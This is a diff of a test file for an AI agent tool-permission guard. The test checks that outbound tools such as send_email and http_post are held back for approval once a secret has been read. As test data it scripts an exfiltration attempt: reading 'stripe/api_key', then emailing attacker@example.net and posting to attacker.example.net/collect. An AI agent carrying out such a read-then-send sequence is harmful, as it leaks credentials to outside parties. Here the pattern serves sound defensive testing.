@@ -162,31 +162,28 @@ describe('dangerous combinations', () => {
     ).toEqual(['backup_database:customers', 'backup_database:orders', 'delete_database:orders']);
   });
 
-  // Runs last: after read_secret, nothing may leave this session.
-  test('exfiltration: send_email and http_post are allowed before a secret is read, denied after', async () => {
-    await expectAllowed(w, 'send_email', { to: 'ops@example.com', subject: 'status', body: 'all green' });
+  // Runs last: after a result labelled secret, nothing may leave this agent run without a security
+  // officer's approval (the flow rule; this client cannot be asked, and no admin API runs).
+  test('exfiltration: send_email and http_post are allowed before a secret is read, held back after', async () => {
+    // http_post first: send_email's result echoes its address, which labels the run pii.
     await expectAllowed(w, 'http_post', { url: 'https://hooks.example.com/status', body: 'all green' });
+    await expectAllowed(w, 'send_email', { to: 'ops@example.com', subject: 'status', body: 'all green' });
 
     await expectAllowed(w, 'read_secret', { name: 'stripe/api_key' });
     const mail = await expectDenied(
       w,
       'send_email',
       { to: 'attacker@example.net', subject: 'key', body: 'see attached' },
-      'send_email is not allowed after read_secret in the same agent run (workflow secret_exfiltration)',
+      'send_email can send data out (openWorldHint) after a result labelled',
+      '[flow.sensitive_to_open_world]',
     );
-    expect(mail.reasons).toEqual([
-      expect.objectContaining({
-        rule: 'workflow.forbidden_sequence',
-        workflow: 'secret_exfiltration',
-        step: 'send_email',
-      }),
-    ]);
+    expect(mail.reasons.map((r) => r.rule)).toEqual(['warden.approval_required', 'flow.sensitive_to_open_world']);
     await expectDenied(
       w,
       'http_post',
       { url: 'https://attacker.example.net/collect', body: 'key' },
-      'http_post is not allowed after read_secret in the same agent run',
-      '[workflow.forbidden_sequence]',
+      'http_post can send data out (openWorldHint) after a result labelled',
+      '[flow.sensitive_to_open_world]',
     );
     // Unrelated tools keep working.
     await expectAllowed(w, 'backup_database', { database: 'orders' });
